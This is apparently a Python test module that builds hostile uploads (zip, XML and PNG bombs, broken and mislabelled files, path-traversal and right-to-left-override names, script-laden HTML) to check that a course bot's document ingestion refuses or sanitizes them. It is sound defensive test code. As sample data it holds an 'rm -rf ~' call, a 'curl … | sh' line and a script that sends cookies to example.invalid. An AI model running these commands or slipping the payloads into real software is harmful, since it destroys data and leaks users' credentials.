"""Hostile course files, generated: what an upload or a course folder may throw at the ingestion.

Each `Case` writes one file into a folder and says what must happen to it: refused with a specific message
(`error`; the bot may word a refusal before downloading differently, `bot_error`), or indexed safely
(`error=None`, with `stored` the name it must be stored under and `absent` text no chunk may contain).
`snapshot` is what "nothing changed" compares: index checksum and counts, registry rows, materials folder.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import weaviate.classes as wvc

from bot import materials
from knowledge.core import Knowledge
from knowledge.registry import list_sources
from tests import files

# What no chunk of a hostile HTML page may contain: each marker sits somewhere a browser would not show.
HTML_MARKERS = {
    "script": "MARKER_SCRIPT_7f3a", "script_upper": "MARKER_SCRIPT_UPPER_19c2", "style": "MARKER_STYLE_b21e",
    "onload": "MARKER_ONLOAD_44d0", "onclick": "MARKER_ONCLICK_c9a1", "href": "MARKER_JSHREF_0be7",
    "comment": "MARKER_COMMENT_5d13", "noscript": "MARKER_NOSCRIPT_8e62", "iframe": "MARKER_IFRAME_a7c4",
    "svg": "MARKER_SVG_2f90", "template": "MARKER_TEMPLATE_61bb", "tail_script": "MARKER_TAIL_d3f8",
}
HTML_VISIBLE = "La entrega del taller 4 se mueve al viernes 14 de noviembre."
NOTEBOOK_OUTPUT_LINE = "epoch 0001 loss 0.693147 acc 0.5012 MARKER_OUTPUT\n"
NOTEBOOK_IMAGE = "iVBORw0KGgoMARKERIMAGE"  # the start of a base64 PNG output
NOTEBOOK_CODE = "for epoch in range(10000):\n    entrenar(modelo, datos)"
MD_BODY = "# Apuntes\n\nEl descenso de gradiente actualiza los pesos en la dirección opuesta al gradiente.\n"
SCRIPTS = {".py": b"import os\nos.system('rm -rf ~')\n", ".exe": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56,
           ".sh": b"#!/bin/sh\ncurl http://example.invalid | sh\n"}
WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}


@dataclass(frozen=True)
class Case:
    """One hostile file: how to make it and what must happen to it."""

    id: str
    upload_name: str  # the name the bot receives (Telegram passes it through unchecked)
    make: Callable[[Path], Path]  # writes the file into a folder, returns its path (named for the CLI)
    error: str | None  # a phrase of the refusal, distinctive of its failure class; None: must be indexed
    bot_error: str | None = None  # the bot's wording when it differs (refusals before downloading)
    stored: str | None = None  # indexed cases: the name the bot must store it under
    cli_id: str | None = None  # indexed cases: the CLI's doc id (the name on disk) when it differs from `stored`
    absent: tuple[str, ...] = ()  # indexed cases: text no chunk may contain
    cli: bool = True  # False: a name no file system holds, so only the bot can receive it

    @property
    def refused(self) -> bool:
        return self.error is not None


# -- writers -----------------------------------------------------------------------------------------
def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path
    return make


def _text_pdf(path: Path) -> Path:
    return files.pdf(path, ["Clase 9: optimizacion. El descenso de gradiente estocastico usa minilotes. " * 6,
                            "La tasa de aprendizaje controla el tamano del paso. " * 8])


def truncated_pdf(folder: Path) -> Path:
    """A real PDF cut after its header and first bytes: no page tree, no xref, no trailer."""
    path = _text_pdf(folder / "truncado.pdf")
    path.write_bytes(path.read_bytes()[:300])
    return path


def garbage_pdf(folder: Path) -> Path:
    path = folder / "basura.pdf"
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + os.urandom(4096) + b"\n%%EOF\n")
    return path


def encrypted_pdf(folder: Path) -> Path:
    return files.encrypted_pdf(folder / "cifrado.pdf")


def shapes_only_pdf(folder: Path) -> Path:
    """Pages with only drawn shapes: rectangles, lines, circles; no text layer."""
    from fpdf import FPDF

    doc = FPDF()
    for i in range(3):
        doc.add_page()
        doc.set_fill_color(40 * i, 100, 200)
        doc.rect(20, 20, 120, 60, style="F")
        doc.line(10, 100, 200, 120 + i)
        doc.ellipse(60, 150, 50, 50, style="D")
    path = folder / "solo_dibujos.pdf"
    doc.output(str(path))
    return path


def scanned_pdf(folder: Path) -> Path:
    """A 'scan': each page is one raster image, as a photocopier makes them."""
    from fpdf import FPDF
    from PIL import Image, ImageDraw

    image = Image.new("L", (600, 800), 235)
    draw = ImageDraw.Draw(image)
    for y in range(80, 760, 24):
        draw.rectangle((60, y, 540 - (y % 7) * 20, y + 10), fill=30)  # lines of "text" as ink blobs
    buf = io.BytesIO()
    image.save(buf, format="PNG")
    doc = FPDF()
    for _ in range(2):
        doc.add_page()
        doc.image(io.BytesIO(buf.getvalue()), x=0, y=0, w=210)
    path = folder / "escaneado.pdf"
    doc.output(str(path))
    return path


def blank_pdf(folder: Path) -> Path:
    return files.pdf(folder / "en_blanco.pdf", ["", "", ""])


def many_pages_pdf(folder: Path, pages: int = 3000) -> Path:
    return files.pdf(folder / "tres_mil_paginas.pdf", [f"Pagina {i} del anexo." for i in range(1, pages + 1)])


def pdf_named_docx(folder: Path) -> Path:
    pdf = _text_pdf(folder / "x.pdf")
    return pdf.rename(folder / "informe.docx")


def docx_named_pdf(folder: Path) -> Path:
    doc = files.docx(folder / "x.docx", [("Guía", "Contenido de la guía del curso.")])
    return doc.rename(folder / "guia.pdf")


def pptx_named_docx(folder: Path) -> Path:
    deck = files.pptx(folder / "x.pptx", [("Repaso", "Temas del parcial", "")])
    return deck.rename(folder / "repaso.docx")


def png_bytes() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


def png_bomb(folder: Path) -> Path:
    """68 bytes claiming 100,000 × 100,000 pixels (10 gigapixels): decoded, it would take 10 GB."""
    return files.png_header_only(folder / "bomba.png", 100_000, 100_000)


def huge_png(folder: Path) -> Path:
    """A real, valid 6000 × 5000 image (a few KB compressed) past the 25-megapixel limit."""
    from PIL import Image

    path = folder / "enorme.png"
    Image.new("1", (6000, 5000), 1).save(path, format="PNG")
    return path


def truncated_jpeg(folder: Path) -> Path:
    buf = io.BytesIO()
    files.text_image("Diapositiva cortada a la mitad").convert("RGB").save(buf, format="JPEG")
    path = folder / "cortada.jpg"
    path.write_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])
    return path


def docx_bomb(folder: Path) -> Path:
    return files.zip_bomb(folder / "bomba.docx", "word/document.xml", size_mb=300)


def pptx_bomb(folder: Path) -> Path:
    return files.zip_bomb(folder / "bomba.pptx", "ppt/presentation.xml", size_mb=300)


def ratio_bomb_docx(folder: Path) -> Path:
    """Under the size cap (60 MB inflated) but with a compression ratio no real document has."""
    return files.zip_bomb(folder / "comprimido.docx", "word/document.xml", size_mb=60)


def lying_zip_docx(folder: Path) -> Path:
    """A real DOCX whose document.xml inflates to 100 MB while its headers declare the real document's size:
    the size check believes the headers, so the reader must not inflate past them."""
    real = files.docx(folder / "real.docx", [("Tema", "Texto verdadero del documento.")])
    with zipfile.ZipFile(real) as zf:
        members = {i.filename: zf.read(i.filename) for i in zf.infolist()}
    real.unlink()
    xml = members["word/document.xml"]
    path = folder / "mentiroso.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            if name == "word/document.xml":
                with zf.open(name, "w") as f:
                    f.write(xml)
                    block = b" " * (1 << 20)  # trailing whitespace: still well-formed XML
                    for _ in range(100):
                        f.write(block)
            else:
                zf.writestr(name, data)
    _declare_size(path, "word/document.xml", len(xml))
    return path


def _declare_size(path: Path, member: str, size: int) -> None:
    """Rewrite a member's uncompressed size in its local header and central directory entry."""
    raw = bytearray(path.read_bytes())
    name = member.encode()
    at = 0
    while (at := raw.find(b"PK\x03\x04", at)) != -1:  # local file headers: size at +22
        n, extra = struct.unpack_from("<HH", raw, at + 26)
        if raw[at + 30:at + 30 + n] == name:
            struct.pack_into("<I", raw, at + 22, size)
        at += 4
    at = 0
    while (at := raw.find(b"PK\x01\x02", at)) != -1:  # central directory: size at +24
        n = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46:at + 46 + n] == name:
            struct.pack_into("<I", raw, at + 24, size)
        at += 4
    path.write_bytes(bytes(raw))


def billion_laughs_docx(folder: Path) -> Path:
    """A DOCX whose document.xml declares nested entities that would expand to gigabytes."""
    real = files.docx(folder / "real.docx", [("Tema", "Texto del documento.")])
    with zipfile.ZipFile(real) as zf:
        members = {i.filename: zf.read(i.filename) for i in zf.infolist()}
    real.unlink()
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    doc = members["word/document.xml"].decode()
    head, _, body = doc.partition("?>")
    doc = f'{head}?><!DOCTYPE lolz [{entities}]>{body}'.replace("Texto del documento.", "&lol9;")
    members["word/document.xml"] = doc.encode()
    path = folder / "risas.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def huge_outputs_notebook(folder: Path) -> Path:
    """A training notebook whose outputs were saved: 12 MB of log lines and a 4 MB inline image."""
    cells = [{"cell_type": "markdown", "metadata": {}, "source": "# Entrenamiento de la red"},
             {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": NOTEBOOK_CODE,
              "outputs": [{"output_type": "stream", "name": "stdout",
                           "text": NOTEBOOK_OUTPUT_LINE * (12 * 1024 * 1024 // len(NOTEBOOK_OUTPUT_LINE))},
                          {"output_type": "display_data", "metadata": {},
                           "data": {"image/png": NOTEBOOK_IMAGE + "A" * (4 * 1024 * 1024),
                                    "text/plain": "<Figure size 640x480 with 1 Axes>"}}]}]
    path = folder / "entrenamiento.ipynb"
    path.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


def hostile_html(folder: Path) -> Path:
    m = HTML_MARKERS
    page = f"""<!DOCTYPE html><html><head><title>Anuncio del taller</title>
<style>body {{ content: "{m['style']}"; }}</style>
<script>document.title = "{m['script']}"; fetch("https://example.invalid/?c=" + document.cookie);</script>
</head><body onload="alert('{m['onload']}')">
<main><h1>Cambio de fecha</h1>
<p onclick="steal('{m['onclick']}')">{HTML_VISIBLE}</p>
<p><a href="javascript:alert('{m['href']}')">Ver calendario</a></p>
<SCRIPT type="text/javascript">var x = "{m['script_upper']}";</SCRIPT>
<!-- {m['comment']} -->
<noscript>{m['noscript']}</noscript>
<iframe srcdoc="<p>{m['iframe']}</p>">{m['iframe']}</iframe>
<svg><script>/* {m['svg']} */</script><text>{m['svg']}</text></svg>
<template><p>{m['template']}</p></template>
</main></body></html>
<script>console.log("{m['tail_script']}")</script>"""
    path = folder / "anuncio.html"
    path.write_text(page, encoding="utf-8")
    return path


def too_large_text(folder: Path, mb: int = 21) -> Path:
    path = folder / "enorme.txt"
    line = b"Texto de relleno de un archivo de apuntes demasiado grande para el indice.\n"
    data = line * (mb * 1024 * 1024 // len(line) + 1)
    path.write_bytes(data[: mb * 1024 * 1024])
    return path


def _named_md(disk_name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:  # contents differ per case: the bot takes equal bytes for a duplicate
        tag = hashlib.sha256(disk_name.encode()).hexdigest()[:8]
        return files.text(folder / disk_name, f"{MD_BODY}\nCopia {tag}.\n")
    return make


def _traversal(folder: Path) -> Path:
    """On disk the file is reached through '..': the CLI gets a path that climbs out and back in."""
    (folder / "sub").mkdir(exist_ok=True)
    real = files.text(folder / "passwd.md", MD_BODY)
    return real.parent / "sub" / ".." / real.name


# -- the cases ---------------------------------------------------------------------------------------
EMPTY = "the file is empty (0 bytes)"
NOT_OFFICE = "but its content is not an Office document"
BINARY = "text but the content is binary"
UNSUPPORTED = "unsupported file type"
ZIP_BOMB = "looks like a zip bomb"
NO_TEXT = ("no text found (no text layer, and OCR could not read it with confidence: blank, drawings only, or a "
           "blurred scan?)")  # pages without a text layer are read by OCR; these have nothing OCR can read
LONG_STEM = "apuntes_" + "muy_largos_" * 30  # 338 characters: past any sane name
EXTENSIONS = (".pdf", ".docx", ".pptx", ".md", ".markdown", ".html", ".htm", ".ipynb", ".txt", ".csv", ".png")

CASES: list[Case] = [
    # broken or unreadable PDFs
    Case("pdf-truncated", "truncado.pdf", truncated_pdf, "truncado.pdf: damaged PDF"),
    Case("pdf-garbage-after-header", "basura.pdf", garbage_pdf, "basura.pdf: damaged PDF"),
    Case("pdf-encrypted", "cifrado.pdf", encrypted_pdf, "cifrado.pdf: the PDF is password-protected"),
    Case("pdf-shapes-only", "solo_dibujos.pdf", shapes_only_pdf, f"solo_dibujos.pdf: {NO_TEXT}"),
    Case("pdf-scanned-images", "escaneado.pdf", scanned_pdf, f"escaneado.pdf: {NO_TEXT}"),
    Case("pdf-blank-pages", "en_blanco.pdf", blank_pdf, f"en_blanco.pdf: {NO_TEXT}"),
    Case("pdf-3000-pages", "tres_mil_paginas.pdf", many_pages_pdf,
         "tres_mil_paginas.pdf: 3000 pages exceeds the limit of 2000"),
    # hostile images (slides uploaded as PNG/JPEG are read by OCR)
    Case("png-decompression-bomb", "bomba.png", png_bomb, "bomba.png: refused, the image is too large to decode"),
    Case("png-huge-dimensions", "enorme.png", huge_png, "enorme.png: 6000×5000 pixels exceeds the limit of 25"),
    Case("jpeg-truncated", "cortada.jpg", truncated_jpeg, "cortada.jpg: the image is damaged or truncated"),
    Case("text-named-png", "foto.png", _bytes("foto.png", b"# no es una imagen\n" * 10),
         "foto.png: named as an image but its content is not PNG, JPEG or WebP"),
    # content that lies about its type
    Case("pdf-named-docx", "informe.docx", pdf_named_docx, f"informe.docx: named .docx {NOT_OFFICE}"),
    Case("docx-named-pdf", "guia.pdf", docx_named_pdf, "guia.pdf: named .pdf but its content is not a PDF"),
    Case("pptx-named-docx", "repaso.docx", pptx_named_docx, "repaso.docx: named .docx but it is not a DOCX document"),
    Case("png-named-md", "foto.md", _bytes("foto.md", png_bytes()), f"foto.md: named as markdown {BINARY}"),
    Case("binary-named-txt", "datos.txt", _bytes("datos.txt", os.urandom(2048) + b"\x00\x01"),
         f"datos.txt: named as text {BINARY}"),
    Case("latin1-named-md", "acentos.md", _bytes("acentos.md", "año ñandú camión".encode("latin-1") * 20),
         "acentos.md: not UTF-8 text (invalid continuation byte"),
    # zip bombs and XML bombs
    Case("docx-zip-bomb", "bomba.docx", docx_bomb, "bomba.docx: refused, it would inflate to 300 MB"),
    Case("pptx-zip-bomb", "bomba.pptx", pptx_bomb, "bomba.pptx: refused, it would inflate to 300 MB"),
    Case("docx-compression-ratio", "comprimido.docx", ratio_bomb_docx, ZIP_BOMB),
    Case("docx-lying-zip-headers", "mentiroso.docx", lying_zip_docx,
         "mentiroso.docx: could not be read as docx (BadZipFile: Bad CRC-32"),
    Case("docx-billion-laughs", "risas.docx", billion_laughs_docx,
         "risas.docx: could not be read as docx (XMLSyntaxError: Maximum entity amplification"),
    # empty files, one per extension
    *[Case(f"empty{ext}", f"vacio{ext}", _bytes(f"vacio{ext}", b""), f"vacio{ext}: {EMPTY}") for ext in EXTENSIONS],
    # notebooks
    Case("notebook-invalid-json", "roto.ipynb", _bytes("roto.ipynb", b'{"cells": [{"cell_type": "code", '),
         "roto.ipynb: not a valid notebook (JSON error"),
    Case("notebook-without-cells", "sin_celdas.ipynb", _bytes("sin_celdas.ipynb", b'{"metadata": {}, "nbformat": 4}'),
         "sin_celdas.ipynb: not a Jupyter notebook (no 'cells' list)"),
    Case("notebook-huge-outputs", "entrenamiento.ipynb", huge_outputs_notebook, None, stored="entrenamiento.ipynb",
         absent=(NOTEBOOK_IMAGE, "AAAAAAAAAAAAAAAA")),
    # HTML with active content: indexed, but only what a reader sees
    Case("html-scripts-styles-handlers", "anuncio.html", hostile_html, None, stored="anuncio.html",
         absent=tuple(HTML_MARKERS.values())),
    # names
    Case("name-dot-dot-slash", "../../../etc/cron.d/passwd.md", _traversal, None, stored="passwd.md"),
    Case("name-absolute-path", "/etc/cron.d/absoluto.md", _named_md("absoluto.md"), None, stored="absoluto.md",
         cli=False),
    Case("name-windows-backslashes", "..\\..\\Windows\\System32\\ventanas.md", _named_md("ventanas.md"), None,
         stored="ventanas.md", cli=False),
    Case("name-rtl-override-hides-exe", "tarea\u202efdp.exe", _bytes("tarea\u202efdp.exe", SCRIPTS[".exe"]),
         "fdp.exe: unsupported file type", bot_error="❌ No lo agregué: tareafdp.exe: unsupported file type"),
    Case("name-rtl-override", "notas\u202etxt.md", _named_md("notas\u202etxt.md"), None, stored="notastxt.md",
         cli_id="notas\u202etxt.md"),
    Case("name-nul-byte", "guia\x00.exe.md", _named_md("guia.exe.md"), None, stored="guia.exe.md", cli=False),
    Case("name-emoji", "📚 Apuntes 🎓.md", _named_md("📚 Apuntes 🎓.md"), None, stored="Apuntes _.md",
         cli_id="📚 Apuntes 🎓.md"),
    Case("name-very-long", LONG_STEM + ".md", _named_md(LONG_STEM[:240] + ".md"), None,
         stored=LONG_STEM[:117] + ".md", cli_id=LONG_STEM[:240] + ".md"),
    Case("name-windows-reserved", "CON.txt", _named_md("CON.txt"), None, stored="CON_.txt", cli_id="CON.txt"),
    Case("name-hidden-dotfile", ".bashrc.md", _named_md(".bashrc.md"), None, stored="bashrc.md", cli_id=".bashrc.md"),
    Case("name-only-dots", "..", _named_md("puntos.md"), "'..' is not a usable file name", cli=False),
    # size
    Case("over-the-size-limit", "enorme.txt", too_large_text, "enorme.txt: 21.0 MB exceeds the limit of 20 MB",
         bot_error="❌ No lo agregué: enorme.txt: pesa 21.0 MB y el máximo es 20.0 MB"),
    # programs
    *[Case(f"program{ext}", f"programa{ext}", _bytes(f"programa{ext}", data), f"programa{ext}: {UNSUPPORTED}",
           bot_error=f"❌ No lo agregué: programa{ext}: {UNSUPPORTED}") for ext, data in SCRIPTS.items()],
]


# -- what "nothing changed" means ----------------------------------------------------------------------
@dataclass(frozen=True)
class State:
    checksum: str
    count: int
    chunks: dict[str, int]
    registry: tuple  # (doc_id, sha256, chunk_count, kind, error) per source
    files: tuple[str, ...]  # under the materials folder, staging included


def snapshot(kb: Knowledge) -> State:
    with kb.sessions() as s:
        rows = tuple((r.doc_id, r.sha256, r.chunk_count, r.kind, r.error) for r in list_sources(s, kb.collection_name))
    root = kb.settings.resolved_materials_dir
    # every file, and any folder left in the staging area (the empty staging folder itself may stay)
    listing = tuple(sorted(p.relative_to(root).as_posix() for p in root.rglob("*")
                           if p.is_file() or p.parent.name == materials.STAGING)) if root.exists() else ()
    return State(kb.store.checksum(), kb.store.count(), kb.store.chunk_counts(), rows, listing)


def chunks_of(kb: Knowledge, doc_id: str) -> list[dict]:
    """Every stored property of a document's chunks (text, context line, title, section, node JSON)."""
    res = kb.store.collection.query.fetch_objects(filters=wvc.query.Filter.by_property("file").equal(doc_id),
                                                  limit=1000)
    return [dict(o.properties) for o in res.objects]
